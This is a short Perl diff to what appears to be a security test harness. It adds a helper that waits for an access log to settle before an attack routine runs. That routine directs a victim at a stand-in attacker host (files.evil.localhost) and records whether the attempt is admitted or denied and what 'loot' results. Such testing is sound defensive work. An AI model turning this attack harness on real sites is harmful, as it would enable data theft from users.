@@ -99,10 +99,21 @@ for my $port (values %relay) {
     }
 }
 
+# quiet: how long the access log is when nothing more is written to it.
+sub quiet {
+    my ($length, $now) = (-1, length $own->access_log);
+    for (1 .. 40) {
+        last if $now == $length;
+        sleep 0.3;
+        ($length, $now) = ($now, length $own->access_log);
+    }
+    return $now;
+}
+
 # attack(SITE, VICTIM): what comes of it: "ADMITTED", "DENIED" or what else it was; the site's reason; the loot.
 sub attack {
     my ($site, $victim) = @_;
-    my ($log, $said) = (length $own->access_log, length output());
+    my ($log, $said) = (quiet(), length output());
     eval { $victim->("http://files.evil.localhost:$relay{$site}", $relay{$site}); 1 };
     my $error = $@;
     my ($text, $reason) = ('', undef);
